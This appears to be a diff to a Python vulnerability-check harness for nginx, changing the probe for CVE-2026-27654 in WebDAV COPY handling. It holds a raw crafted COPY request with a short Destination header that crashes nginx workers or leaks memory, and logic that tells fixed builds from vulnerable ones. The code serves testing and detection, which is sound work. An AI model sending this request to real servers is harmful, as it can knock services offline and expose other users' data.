@@ -36,10 +36,6 @@ class Nginx(Daemon):
     def wait_until_ready(self) -> None:
         """Return when the port is open and all workers are there."""
         super().wait_until_ready()
-        self.find_workers()
-
-    def find_workers(self) -> None:
-        """Wait until all workers are there, and remember them."""
         children = Path(f"/proc/{self.process.pid}/task/{self.process.pid}/children")
         until(lambda: len(children.read_text().split()) == self.WORKERS, "the workers of nginx")
         self._workers = tuple(map(int, children.read_text().split()))
@@ -135,8 +131,10 @@ class NginxMail(Nginx):
 class NginxDav(Nginx):
     """CVE-2026-27654: a destination shorter than the location's alias makes a length negative, and a copy endless.
 
-    The worker dies of it, and the master starts another one.
+    The worker dies of it at once, or says that there is no such page, and has another one's memory in its own.
     """
+
+    lethal = True
 
     def __init__(self, subject: Subject, scratch: Path) -> None:
         port = free_port()
@@ -157,16 +155,19 @@ class NginxDav(Nginx):
         if not answer.endswith(b"\r\n\r\npage"):
             raise ProbeError(f"nginx answered {answer!r}")
 
+    def _copy(self, destination: bytes) -> bytes:
+        return self.ask(b"COPY /documents/page HTTP/1.0\r\nHost: x\r\nDestination: http://x%s\r\n\r\n" % destination)
+
     def probe(self) -> Verdict:
-        """Copy to a place that is none."""
-        before = self._workers
-        answer = self.ask(b"COPY /documents/page HTTP/1.0\r\nHost: x\r\nDestination: http://x/d\r\n\r\n")
+        """Copy to a good place, and to one that is none."""
+        good = self._copy(b"/documents/copy")
+        if not good.startswith((b"HTTP/1.1 201 ", b"HTTP/1.1 204 ")):
+            raise ProbeError(f"nginx answered {good!r}")
+        answer = self._copy(b"/d")
         if answer.startswith(b"HTTP/1.1 400 "):
             return Verdict.FIXED
-        if answer:
+        if answer and not answer.startswith(b"HTTP/1.1 404 "):
             raise ProbeError(f"nginx answered {answer!r}")
-        until(lambda: any(not Path(f"/proc/{pid}").exists() for pid in before), "the end of a worker")
-        self.find_workers()
         return Verdict.VULNERABLE
 
 
